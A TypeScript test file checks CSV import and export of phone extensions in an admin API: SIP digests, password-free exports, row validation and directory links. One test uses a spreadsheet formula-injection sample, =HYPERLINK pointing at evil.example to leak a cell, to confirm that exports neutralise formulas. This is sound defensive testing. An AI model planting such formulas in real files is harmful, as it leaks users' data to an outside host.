import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it } from 'vitest';
import { useRedis } from '../support/redis.js';
import { PASSWORD, UMEA, VANNAS, adminApp, setupActor, snapshot } from './support.js';

const ctx = useRedis();
let app: Awaited<ReturnType<typeof adminApp>>;

beforeEach(async () => {
  app = await adminApp(ctx);
});

async function upload(query: string, csv: string) {
  const response = await app.t.app.request(`/api/v1/extensions/import?${query}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${app.admin}`, 'content-type': 'text/csv' },
    body: csv,
  });
  return {
    status: response.status,
    body: (await response.json()) as Record<string, unknown> & { error?: { code: string; details?: unknown[] } },
  };
}

const md5 = (text: string) => createHash('md5').update(text).digest('hex');

describe('extensions CSV import and export', () => {
  it('creates extensions with their SIP digest, exports them without passwords, and the export imports back as unchanged', async () => {
    const csv = [
      'extension;displayName;directNumber;password',
      `2460123;Anna Berg;0935-141 23;${PASSWORD}`,
      `2460124;Bo Ek;;${PASSWORD}`,
    ].join('\n');
    expect((await upload(`municipality=${VANNAS}`, csv)).body).toMatchObject({ rows: 2, created: 2, problems: [] });
    expect(await app.t.admin.extensions.sipCredentials('2460123')).toMatchObject({
      ha1: md5(`2460123:regionvaxel:${PASSWORD}`),
    });

    const exported = await (
      await app.t.app.request(`/api/v1/extensions/export?municipality=${VANNAS}`, {
        headers: { authorization: `Bearer ${app.admin}` },
      })
    ).text();
    const lines = exported
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('id,extension,displayName,directNumber,directoryEntryId,password');
    // The direct number as text (a leading + would make it a formula, or a number without its +, in a spreadsheet).
    expect(lines.slice(1).map((line) => line.split(',').slice(1).join(','))).toEqual([
      "2460123,Anna Berg,'+4693514123,,",
      '2460124,Bo Ek,,,',
    ]);
    expect(exported).not.toContain(PASSWORD);

    expect((await upload(`municipality=${VANNAS}&mode=replace`, exported)).body).toMatchObject({
      created: 0,
      updated: 0,
      unchanged: 2,
      deleted: 0,
    });
    // By number, without ids: the existing extension is changed, not duplicated; the password is kept.
    expect((await upload(`municipality=${VANNAS}`, 'extension,displayName\n2460123,Anna Berg-Ek')).body).toMatchObject({
      created: 0,
      updated: 1,
    });
    expect(await app.t.admin.extensions.sipCredentials('2460123')).toMatchObject({
      ha1: md5(`2460123:regionvaxel:${PASSWORD}`),
    });
  });

  it('exports a cell a spreadsheet would run as a formula as text, and imports it back as it was written', async () => {
    const names = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
      '+Anna',
      '-Bo',
      '@Ek',
      "'=already quoted",
      "''+twice",
    ];
    for (const [i, displayName] of names.entries()) {
      const body = {
        extension: `246020${i}`,
        displayName,
        municipalityId: VANNAS,
        password: PASSWORD,
        ...(i === 0 ? { directNumber: '0935-141 23' } : {}),
      };
      expect((await app.send('POST', '/api/v1/extensions', { body })).status).toBe(201);
    }
    // A file written by hand the way the export writes: the quote is taken away.
    expect(
      (await upload(`municipality=${VANNAS}`, `extension,displayName,password\n2460210,'=SUM(1),${PASSWORD}`)).body,
    ).toMatchObject({ created: 1 });
    expect(
      (await app.t.admin.extensions.get((await app.t.admin.extensions.idByClaim('extension:2460210'))!))?.doc
        .displayName,
    ).toBe('=SUM(1)');

    const exported = await (
      await app.t.app.request(`/api/v1/extensions/export?municipality=${VANNAS}`, {
        headers: { authorization: `Bearer ${app.admin}` },
      })
    ).text();
    const rows = parse(exported, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.displayName)).toEqual([...names.map((name) => `'${name}`), "'=SUM(1)"]);
    expect(rows[0]!.directNumber).toBe("'+4693514123");
    // Nothing a spreadsheet would evaluate: every cell starts with something else than = + - @ tab CR.
    expect(rows.flatMap((row) => Object.values(row)).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const before = await snapshot(ctx);
    expect((await upload(`municipality=${VANNAS}&mode=replace`, exported)).body).toMatchObject({
      created: 0,
      updated: 0,
      unchanged: names.length + 1,
      deleted: 0,
    });
    expect(await snapshot(ctx)).toEqual(before);
  });

  it('changes nothing when a row is bad; a dry run lists every bad row by line and column, the conflicting ones too', async () => {
    await upload(`municipality=${UMEA}`, `extension,displayName,password\n2480100,Umeå Person,${PASSWORD}`);
    await app.send('POST', '/api/v1/numbers', {
      body: { number: '0935-141 50', municipalityId: VANNAS, target: { kind: 'queue' } },
    });
    const before = await snapshot(ctx);
    const bad = [
      'extension,displayName,directNumber,password',
      `2460123,Anna,,${PASSWORD}`,
      `2460124,Utan lösenord,,`,
      `2480200,Fel kommun,,${PASSWORD}`,
      `2460125,Fel nummer,090-16 10 00,${PASSWORD}`,
      `2460123,Dubbel,,${PASSWORD}`,
      `2460126,Krock,0935-141 50,${PASSWORD}`,
    ].join('\n');
    const dry = await upload(`municipality=${VANNAS}&dryRun=true`, bad);
    expect((dry.body.problems as { line: number; column: string }[]).map((p) => `${p.line}:${p.column}`)).toEqual([
      '3:password',
      '4:extension',
      '5:directNumber',
      '6:extension',
      '7:directNumber',
    ]);
    expect(dry.body.problems).toContainEqual({
      line: 7,
      column: 'directNumber',
      problem: '0935-141 50 is already held by number 0935-141 50',
    });
    const real = await upload(`municipality=${VANNAS}`, bad);
    expect(real).toMatchObject({ status: 400, body: { error: { code: 'invalid_rows', details: dry.body.problems } } });
    expect(await snapshot(ctx)).toEqual(before);
  });

  it('in replace mode, takes a bad row’s extension for kept, not for one to delete', async () => {
    const anna = await app.send('POST', '/api/v1/extensions', {
      body: { extension: '2460150', displayName: 'Anna', municipalityId: VANNAS, password: PASSWORD },
    });
    await app.send('POST', '/api/v1/numbers', {
      body: { number: '0935-141 60', municipalityId: VANNAS, target: { kind: 'extension', extension: '2460150' } },
    });
    const dry = await upload(
      `municipality=${VANNAS}&mode=replace&dryRun=true`,
      `id,extension,displayName\n${anna.body.id},2460150,`,
    );
    expect(dry.body.problems).toEqual([{ line: 2, column: 'displayName', problem: expect.any(String) }]);
  });

  it('links an extension to a directory entry of its municipality by directoryEntryId, and names a link to none', async () => {
    await app.t.entries.create(
      { kind: 'person', id: 'anna', givenName: 'Anna', familyName: 'Berg', municipalityId: VANNAS },
      setupActor,
    );
    const csv = [
      'extension,displayName,directoryEntryId,password',
      `2460123,Anna Berg,anna,${PASSWORD}`,
      `2460124,Bo Ek,bo,${PASSWORD}`,
    ].join('\n');
    const dry = await upload(`municipality=${VANNAS}&dryRun=true`, csv);
    expect(dry.body.problems).toEqual([
      { line: 3, column: 'directoryEntryId', problem: 'no directory entry bo exists' },
    ]);
    expect((await upload(`municipality=${VANNAS}`, csv.split('\n').slice(0, 2).join('\n'))).body).toMatchObject({
      created: 1,
    });
    expect(
      (await app.t.admin.extensions.list({ municipalityId: VANNAS, limit: 10 })).items.map(
        (item) => item.doc.directoryEntryId,
      ),
    ).toEqual(['anna']);
    expect((await app.send('DELETE', '/api/v1/directory/entries/anna', { ifMatch: '"1"' })).body.error).toMatchObject({
      code: 'entry_in_use',
    });
  });
});
